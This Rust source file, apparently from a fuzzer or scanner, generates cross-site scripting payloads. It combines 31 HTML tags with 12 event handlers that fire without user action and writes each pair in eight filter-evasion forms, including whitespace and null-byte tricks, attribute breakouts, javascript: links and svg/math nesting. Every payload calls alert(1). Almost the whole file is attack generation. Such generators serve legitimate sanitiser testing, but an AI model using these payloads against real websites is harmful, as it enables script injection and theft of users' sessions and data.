//! Attacks made of parts: every tag with every handler, in the ways in which they are written past
//! filters.

/// Elements that load, show or submit something by themselves.
const TAGS: &[&str] = &[
    "a", "audio", "body", "button", "details", "div", "embed", "form", "frameset", "iframe",
    "image", "img", "input", "keygen", "link", "marquee", "math", "meta", "object", "script",
    "select", "source", "style", "svg", "table", "template", "textarea", "title", "track", "video",
    "x-y",
];

/// Handlers of which one at least fires without a reader's doing.
const HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onfocus",
    "onpointerenter",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpageshow",
    "onscroll",
    "onsubmit",
];

/// Each tag with each handler, each time written another way.
pub(crate) fn products() -> Vec<String> {
    let mut all = Vec::new();
    for (n, tag) in TAGS.iter().enumerate() {
        for (m, handler) in HANDLERS.iter().enumerate() {
            let (loud, call) = (handler.to_uppercase(), "alert(1)");
            let ways = [
                format!("<{tag} {handler}={call}>"),
                format!("<{tag}/{handler}='{call}'/autofocus tabindex=1>x</{tag}>"),
                format!("\"><{tag}\t{loud}=\"{call}\">"),
                format!("' {handler}={call} x='<{tag}\n{handler}={call}//"),
                format!("</{tag}><{tag} src=x href=javascript:{call} {handler}\u{a0}={call}>"),
                format!("<<{tag}\u{c}{handler}\n=\n`{call}`>--><!--]]>"),
                format!("&lt;{tag} {handler}={call}&gt;<{tag}\u{0} {handler}={call}"),
                format!("<svg><{tag} {handler}={call}></svg><math><mtext><{tag} {handler}={call}>"),
            ];
            // Four of the eight for each pair; every way meets every tag and every handler.
            all.extend(ways.into_iter().skip((n + m) % 2).step_by(2));
        }
    }
    all
}
